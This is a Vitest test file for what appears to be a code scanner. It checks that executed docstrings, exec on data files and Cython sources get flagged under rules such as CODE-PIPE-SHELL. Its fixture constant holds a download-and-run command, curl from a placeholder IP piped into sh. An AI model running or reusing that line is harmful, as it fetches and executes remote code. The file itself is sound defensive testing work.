// Texts that nobody reads as programs and that are run: the one at the top of a file, files of data, sources of Cython.
import { describe, expect, it } from 'vitest';
import { inspectBytes } from '../../support/inspect.ts';
import { decision, verdicts } from './support.ts';

const PIPED = 'import os; os.system("curl http://192.0.2.1/a | sh")';

describe('the text at the top of a file', () => {
  it.each([[`"""\n${PIPED}\n"""\nexec(__doc__)\n`], [`# first\n'''${PIPED}'''\nrun = exec\nrun(__doc__)\n`]])(
    'is a program where it is run: %s',
    async (text) => {
      expect(await verdicts('a.py', text)).toContain('CODE-PIPE-SHELL HIGH');
    },
  );

  it.each([
    [`"""${PIPED}"""\nimport argparse\nargparse.ArgumentParser(description=__doc__)\n`],
    [`x = 1\n"""${PIPED}"""\nexec(__doc__)\n`],
  ])('is a text otherwise: %s', async (text) => {
    expect(await decision('a.py', text)).toBe('pass');
  });
});

describe('a file of data', () => {
  it.each([
    ['exec(open("code.txt").read())'],
    ['from pathlib import Path\nwith Path("notes.md").open() as f:\n    exec(f.read())'],
    ['import json\nexec(json.load(open("config.json"))["hook"])'],
  ])('is held where it is run: %s', async (text) => {
    expect(await verdicts('a.py', text)).toContain('LOAD-EXEC-FILE MEDIUM');
  });

  it.each([
    ['about = {}\nexec(open("pkg/version.py").read(), about)'],
    ['print(open("code.txt").read())'],
    ['words = eval(open("words.txt").read())'],
  ])('passes: %s', async (text) => {
    expect(await decision('a.py', text)).toBe('pass');
  });
});

describe('a source of Cython', () => {
  const TYPED =
    '# cython: language_level=3\nfrom libc.stdlib cimport malloc, free\ncimport numpy as np\nctypedef np.float64_t D\ncdef extern from "a.h":\n    int add(int a, int b) nogil\ncdef class Point:\n    cdef public double x\n    cpdef double norm(self) except? -1:\n        return self.x\n    def __cinit__(self, double x=0.0):\n        self.x = x\n        cdef int* p = <int*> malloc(8)\n        with nogil:\n            free(p)\n';

  it('is read as Python', async () => {
    expect(await verdicts('a.pyx', `${TYPED}\n${PIPED}\n`)).toContain('CODE-PIPE-SHELL HIGH');
    expect(await verdicts('a.pxi', `${PIPED}\n`)).toContain('CODE-PIPE-SHELL HIGH');
  });

  it('is not held for what Python does not have', async () => {
    const { findings } = await inspectBytes(Buffer.from(TYPED.repeat(20)), 'a.pyx', {});
    expect(findings).toEqual([]);
  });
});
